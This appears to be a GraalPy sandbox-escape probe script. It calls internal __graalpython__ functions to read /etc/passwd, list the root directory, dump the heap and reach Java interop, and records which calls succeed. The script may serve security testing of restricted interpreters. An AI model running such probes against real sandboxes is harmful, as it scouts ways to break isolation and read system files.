import __graalpython__ as g
found = []
try:
    result = g.load_bytecode_file("/etc/passwd", None, None) or 1/0
    found.append('g.load_bytecode_file("/etc/passwd", None, None) or 1/0')
except Exception:
    pass
try:
    result = g.read_file("/etc/passwd")
    found.append('g.read_file("/etc/passwd")')
except Exception:
    pass
try:
    result = g.dump_heap()
    found.append('g.dump_heap()')
except Exception:
    pass
try:
    result = g.java_extend(object)
    found.append('g.java_extend(object)')
except Exception:
    pass
try:
    result = g.debug(1)
    found.append('g.debug(1)')
except Exception:
    pass
try:
    result = g.get_toolchain_paths("x")[0]
    found.append('g.get_toolchain_paths("x")[0]')
except Exception:
    pass
try:
    result = g.set_storage_strategy([], "x")
    found.append('g.set_storage_strategy([], "x")')
except Exception:
    pass
try:
    result = g.list_files("/")
    found.append('g.list_files("/")')
except Exception:
    pass
found
